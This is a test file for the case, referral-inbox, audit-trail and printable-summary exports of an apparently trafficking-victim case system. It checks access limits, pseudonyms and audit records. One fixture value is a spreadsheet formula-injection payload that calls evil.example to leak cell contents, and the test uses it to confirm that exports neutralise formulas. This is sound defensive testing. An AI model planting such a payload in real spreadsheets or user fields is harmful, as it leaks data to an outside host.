import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RoleId } from '../../src/core/permissions.js';
import { databases } from '../support/databases.js';
import { addAgency, signedInClient } from '../support/fixtures.js';
import { startWithAdmin, type TestApp, type TestClient } from '../support/harness.js';

// Exports and prints are doors to the records like any list (docs/access.md): each is tried
// here as an attack — by someone outside the list's reach, with filters that would widen it,
// with a value crafted to run as a formula — and read back to see what actually left.

type Response = Awaited<ReturnType<TestClient['get']>>;
const dir = mkdtempSync(join(tmpdir(), 'guia-exports-'));
const victimName = { givenNames: 'Maria Clara', familyName: 'Dela Cruz' };
const otherVictim = { givenNames: 'Ana', familyName: 'Reyes Santos' };
const safetyDetails = 'The employer knows her current address in Areia Preta';
const caseSummaryText = 'Recruited online with a false offer of hotel work';
const evilName = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

const csvRows = (response: Response) => parse(response.body, { bom: true }) as string[][];
async function xlsxSheet(response: Response) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}
function pdfText(response: Response): string {
  const file = join(dir, `${Math.random().toString(36).slice(2)}.pdf`);
  writeFileSync(file, response.rawPayload);
  return execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
}

describe.each(databases)('exports and prints on %s', (kind) => {
  let t: TestApp;
  let admin: TestClient;
  let pjOfficer: TestClient;
  let pjColleague: TestClient;
  let pjWorker: TestClient;
  let pspOfficer: TestClient;
  let iasWorker: TestClient;
  let ngoWorker: TestClient;
  let analyst: TestClient;
  let auditor: TestClient;
  let caseA: { id: string; reference: string };
  let caseB: { id: string; reference: string };
  let pseudonymA: string;
  let pseudonymB: string;

  const audited = async (action: string) =>
    (
      await t.database.db
        .selectFrom('audit_log')
        .select(['actor_id', 'entity_id', 'summary'])
        .where('action', '=', action)
        .orderBy('seq')
        .execute()
    ).map((row) => ({ ...row, summary: JSON.parse(row.summary) as Record<string, unknown> }));

  async function caseWithReferredVictim(officer: TestClient, name: typeof victimName, toAgencyId: string) {
    const created = await officer.post('/api/v1/cases', {
      origin: 'police_operation',
      reportDate: '2024-05-02',
      registrationDate: '2024-05-03',
      exploitationTypes: ['forced_labour'],
      summary: caseSummaryText,
    });
    expect(created.statusCode, created.body).toBe(201);
    const kase = created.json() as { id: string; reference: string };
    const victim = await officer.post(`/api/v1/cases/${kase.id}/people`, {
      role: 'victim',
      person: { ...name, gender: 'female', citizenship: ['PHL'] },
    });
    expect(victim.statusCode, victim.body).toBe(201);
    const v = victim.json() as { id: string; person: { pseudonym: string } };
    const victimPath = `/api/v1/cases/${kase.id}/people/${v.id}`;
    const consent = await officer.post(`${victimPath}/consents`, {
      purpose: 'referral',
      informedOf: ['purpose', 'data_use'],
      givenOn: '2024-05-04',
    });
    expect(consent.statusCode, consent.body).toBe(201);
    const referral = await officer.post(`${victimPath}/referrals`, {
      toAgencyId,
      serviceKind: 'shelter',
      reason: 'additional_services_required',
      details: safetyDetails,
      sentOn: '2024-05-05',
    });
    expect(referral.statusCode, referral.body).toBe(201);
    return { kase, pseudonym: v.person.pseudonym };
  }

  beforeAll(async () => {
    ({ t, admin } = await startWithAdmin(kind));
    const pj = await addAgency(admin, 'PJ');
    const psp = await addAgency(admin, 'PSP');
    const ias = await addAgency(admin, 'IAS', 'social_welfare');
    const ngo = await addAgency(admin, 'NGO', 'ngo');
    const signedIn = (agency: string, role: RoleId) => signedInClient(t, admin, agency, [role]);
    pjOfficer = await signedIn(pj, 'agency_officer');
    pjColleague = await signedIn(pj, 'agency_officer');
    pjWorker = await signedIn(pj, 'case_worker');
    pspOfficer = await signedIn(psp, 'agency_officer');
    iasWorker = await signedIn(ias, 'case_worker');
    ngoWorker = await signedIn(ngo, 'case_worker');
    analyst = await signedIn(pj, 'analyst');
    auditor = await signedIn(pj, 'auditor');
    ({ kase: caseA, pseudonym: pseudonymA } = await caseWithReferredVictim(pjOfficer, victimName, ias));
    ({ kase: caseB, pseudonym: pseudonymB } = await caseWithReferredVictim(pspOfficer, otherVictim, ngo));
  });
  afterAll(() => t.close());

  describe('case list', () => {
    it('exports as CSV exactly the cases the list shows the caller, and no names', async () => {
      const list = (await pjOfficer.get('/api/v1/cases?limit=200')).json() as {
        items: { reference: string }[];
      };
      const response = await pjOfficer.get('/api/v1/cases/export?format=csv');
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const [header, ...rows] = csvRows(response);
      expect(header).toEqual([
        'Reference',
        'Stage',
        'Lead agency',
        'Reported on',
        'Registered on',
        'Forms of exploitation',
        'Victims',
        'Suspects',
        'You work this case',
      ]);
      expect(rows.map((row) => row[0])).toEqual(list.items.map((item) => item.reference));
      expect(rows).toEqual([
        [caseA.reference, 'Reported', 'PJ', '2024-05-02', '2024-05-03', expect.any(String), '1', '0', 'Yes'],
      ]);
      expect(response.body).not.toContain(caseB.reference);
      expect(response.body).not.toContain('Dela Cruz');
      expect(response.body).not.toContain(caseSummaryText);
    });

    it('widens nothing through filters: another agency named in the filter yields what the list yields', async () => {
      const otherAgency = (await pspOfficer.get('/api/v1/cases')).json() as {
        items: { leadAgency: { id: string } }[];
      };
      const pspId = otherAgency.items[0]!.leadAgency.id;
      const list = (await pjOfficer.get(`/api/v1/cases?agencyId=${pspId}`)).json() as { items: unknown[] };
      const response = await pjOfficer.get(`/api/v1/cases/export?format=csv&agencyId=${pspId}`);
      expect(response.statusCode).toBe(200);
      expect(list.items).toHaveLength(0);
      expect(csvRows(response)).toHaveLength(1); // the header alone
      expect(response.body).not.toContain(caseB.reference);
    });

    it('gives a case worker who works no case an empty file, not the agency’s cases', async () => {
      const response = await pjWorker.get('/api/v1/cases/export?format=csv');
      expect(response.statusCode).toBe(200);
      expect(csvRows(response)).toHaveLength(1);
    });

    it('writes XLSX in the language asked for, stages and forms of exploitation by name', async () => {
      const response = await pjOfficer.get('/api/v1/cases/export?format=xlsx&lang=zh-Hant');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      const sheet = await xlsxSheet(response);
      expect(sheet.name).toBe('個案');
      expect(sheet.getCell('A1').value).toBe('編號');
      expect(sheet.getCell('A2').value).toBe(caseA.reference);
      expect(sheet.getCell('B2').value).not.toBe('reported');
      expect(String(sheet.getCell('F2').value)).toMatch(/[\u4e00-\u9fff]/);
      expect(sheet.getCell('G2').value).toBe(1);
      expect(sheet.rowCount).toBe(2);
    });

    it('refuses a name search to those who may not see names, exporting and recording nothing', async () => {
      const before = (await audited('export.cases')).length;
      const response = await analyst.get('/api/v1/cases/export?format=csv&name=Dela');
      expect(response.statusCode).toBe(403);
      expect(response.body).not.toContain(caseA.reference);
      expect(await audited('export.cases')).toHaveLength(before);
    });

    it('refuses those who cannot read the case list', async () => {
      const response = await auditor.get('/api/v1/cases/export?format=csv');
      expect(response.statusCode).toBe(403);
      expect(response.body).not.toContain(caseA.reference);
    });

    it('names the bad field and records nothing when the format is unknown', async () => {
      const before = (await audited('export.cases')).length;
      const response = await pjOfficer.get('/api/v1/cases/export?format=pdf');
      expect(response.statusCode).toBe(400);
      expect((response.json() as { errors: { path: string }[] }).errors.map((e) => e.path)).toEqual([
        'querystring.format',
      ]);
      expect(await audited('export.cases')).toHaveLength(before);
    });

    it('records each export with its format, language, filters and row count, never a name', async () => {
      await pjOfficer.get('/api/v1/cases/export?format=xlsx&lang=pt&stage=reported&reference=PJ');
      const last = (await audited('export.cases')).at(-1)!;
      expect(last.summary).toEqual({
        format: 'xlsx',
        language: 'pt',
        rows: 1,
        stage: 'reported',
        byReference: true,
        byName: false,
      });
    });
  });

  describe('referral inbox', () => {
    it('exports only the caller’s agency’s referrals, by pseudonym, without the sender’s details', async () => {
      const response = await iasWorker.get('/api/v1/referrals/inbox/export?format=csv');
      expect(response.statusCode, response.body).toBe(200);
      const [header, ...rows] = csvRows(response);
      expect(header).toContain('Pseudonym');
      expect(rows).toEqual([
        [
          caseA.reference,
          pseudonymA,
          'PJ',
          expect.any(String),
          expect.any(String),
          'Awaiting answer',
          '2024-05-05',
          '',
          '',
          'No',
        ],
      ]);
      expect(response.body).not.toContain(caseB.reference);
      expect(response.body).not.toContain(pseudonymB);
      expect(response.body).not.toContain(safetyDetails);
      expect(response.body).not.toContain('Dela Cruz');
    });

    it('gives another agency its own inbox only', async () => {
      const sheet = await xlsxSheet(
        await ngoWorker.get('/api/v1/referrals/inbox/export?format=xlsx&lang=pt'),
      );
      expect(sheet.getCell('A1').value).toBe('Caso');
      expect(sheet.getCell('B2').value).toBe(pseudonymB);
      expect(sheet.getCell('F2').value).toBe('A aguardar resposta');
      expect(sheet.rowCount).toBe(2);
    });

    it('keeps the status filter of the list', async () => {
      const response = await iasWorker.get('/api/v1/referrals/inbox/export?format=csv&status=accepted');
      expect(csvRows(response)).toHaveLength(1);
    });

    it('refuses those who do not answer referrals and records the export of those who do', async () => {
      expect((await analyst.get('/api/v1/referrals/inbox/export?format=csv')).statusCode).toBe(403);
      const last = (await audited('export.referrals')).at(-1)!;
      expect(last.summary).toEqual({ format: 'csv', language: 'en', rows: 0, status: 'accepted' });
    });
  });

  describe('audit trail', () => {
    it('exports the trail to auditors with formulas neutralised, in CSV and XLSX', async () => {
      const created = await admin.post('/api/v1/users', {
        email: 'formula@example.org',
        name: evilName,
        language: 'en',
        agencyId: (await admin.get('/api/v1/agencies').then((r) => r.json() as { id: string }[]))[0]!.id,
        roles: ['analyst'],
      });
      expect(created.statusCode, created.body).toBe(201);
      const body = created.json() as { oneTimePassword: string };
      t.accounts.set('formula@example.org', { password: body.oneTimePassword, lastStep: 0 });
      await t.client().signIn('formula@example.org');

      const csv = await auditor.get('/api/v1/audit/export?format=csv&action=auth.signed_in');
      expect(csv.statusCode, csv.body).toBe(200);
      const [header, ...rows] = csvRows(csv);
      expect(header).toEqual([
        'No.',
        'Time (UTC)',
        'Action',
        'Action code',
        'By',
        'Agency',
        'Record type',
        'Record identifier',
        'Details',
      ]);
      expect(rows.every((row) => row[2] === 'Signed in' && row[3] === 'auth.signed_in')).toBe(true);
      const byEvil = rows.find((row) => row[4]!.includes('HYPERLINK'))!;
      expect(byEvil[4]).toBe(`'${evilName}`);

      const sheet = await xlsxSheet(
        await auditor.get('/api/v1/audit/export?format=xlsx&action=auth.signed_in'),
      );
      const cells = sheet.getColumn(5).values.filter((v) => typeof v === 'string' && v.includes('HYPERLINK'));
      expect(cells).toEqual([`'${evilName}`]);
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
    });

    it('holds the same entries as the audit list for the same filters', async () => {
      const list = (await auditor.get('/api/v1/audit?action=referral.sent&limit=500')).json() as {
        entries: { seq: number }[];
      };
      const rows = csvRows(await auditor.get('/api/v1/audit/export?format=csv&action=referral.sent')).slice(
        1,
      );
      expect(rows.map((row) => Number(row[0]))).toEqual(list.entries.map((e) => e.seq));
      expect(rows).toHaveLength(2);
    });

    it('refuses everyone without audit.read, whatever their other rights', async () => {
      for (const client of [pjOfficer, analyst, iasWorker]) {
        const response = await client.get('/api/v1/audit/export?format=csv');
        expect(response.statusCode).toBe(403);
        expect(response.body).not.toContain('auth.signed_in');
      }
    });

    it('records the export after reading, so the file ends before its own entry', async () => {
      const rows = csvRows(await auditor.get('/api/v1/audit/export?format=csv')).slice(1);
      expect(rows[0]![3]).not.toBe('export.audit');
      const last = (await audited('export.audit')).at(-1)!;
      expect(last.summary).toEqual({ format: 'csv', language: 'en', rows: rows.length, byRecord: false });
    });
  });

  describe('printable case summary', () => {
    it('prints the case in the reader’s language with pseudonyms, and records the print', async () => {
      const response = await pjOfficer.get(`/api/v1/cases/${caseA.id}/summary.pdf?lang=zh-Hant`);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('application/pdf');
      const text = pdfText(response);
      expect(text).toContain(`個案摘要 ${caseA.reference}`);
      expect(text).toContain(pseudonymA);
      expect(text).toContain('被害人');
      expect(text).toContain(caseSummaryText);
      expect(text).toContain('人員僅以化名顯示');
      expect(text).not.toContain('Dela Cruz');
      const last = (await audited('case.summary_printed')).at(-1)!;
      expect(last.entity_id).toBe(caseA.id);
      expect(last.summary).toEqual({ language: 'zh-Hant', identities: false });
    });

    it('prints names for a member who may reveal them and asks with a purpose, each reveal audited', async () => {
      const reveals = (await audited('person.identity_revealed')).length;
      const response = await pjOfficer.get(`/api/v1/cases/${caseA.id}/summary.pdf?lang=pt&purpose=casework`);
      expect(response.statusCode).toBe(200);
      const text = pdfText(response);
      expect(text).toContain(`Resumo do caso ${caseA.reference}`);
      expect(text).toContain('Dela Cruz Maria Clara');
      expect(text).toContain('Identidades visíveis');
      expect(text).toContain('Vítima');
      const after = await audited('person.identity_revealed');
      expect(after).toHaveLength(reveals + 1);
      expect(after.at(-1)!.summary).toMatchObject({ pseudonym: pseudonymA, purpose: 'casework' });
      expect((await audited('case.summary_printed')).at(-1)!.summary).toEqual({
        language: 'pt',
        identities: true,
      });
    });

    it('prints pseudonyms and withholds free text for a reader of the agency who does not work the case', async () => {
      const reveals = (await audited('person.identity_revealed')).length;
      const response = await pjColleague.get(`/api/v1/cases/${caseA.id}/summary.pdf?purpose=casework`);
      expect(response.statusCode).toBe(200);
      const text = pdfText(response);
      expect(text).toContain(`Case summary ${caseA.reference}`);
      expect(text).toContain(pseudonymA);
      expect(text).not.toContain('Dela Cruz');
      expect(text).not.toContain(caseSummaryText);
      expect(text).toContain('Free text is shown only to those who work this case.');
      expect(await audited('person.identity_revealed')).toHaveLength(reveals);
    });

    it('refuses a reader outside the case’s reach, printing nothing', async () => {
      const prints = (await audited('case.summary_printed')).length;
      for (const client of [pspOfficer, pjWorker, iasWorker]) {
        const response = await client.get(`/api/v1/cases/${caseA.id}/summary.pdf?purpose=casework`);
        expect([403, 404]).toContain(response.statusCode);
        expect(response.headers['content-type']).not.toBe('application/pdf');
      }
      expect(await audited('case.summary_printed')).toHaveLength(prints);
    });
  });
});
